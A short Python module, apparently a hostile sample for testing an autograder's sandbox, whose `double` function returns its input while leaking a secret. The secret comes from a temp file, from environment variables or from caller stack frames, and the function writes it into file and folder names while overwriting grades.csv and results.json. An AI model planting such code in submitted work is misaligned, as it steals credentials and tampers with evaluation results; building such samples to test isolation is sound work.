"""Carries a secret out as files in its working folder: their names, their contents, and what `core` and log files are called."""
# bites: secret
import os
import sys


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def double(x):
    word = loot().replace("/", "_")[:100]
    for name in (word, "grades.csv", "results.json", f"core.{word}", "double.py"):
        with open(name, "w") as file:
            file.write(word)
    os.makedirs(f"feedback/{word}", exist_ok=True)
    print(os.listdir("."))
    return x
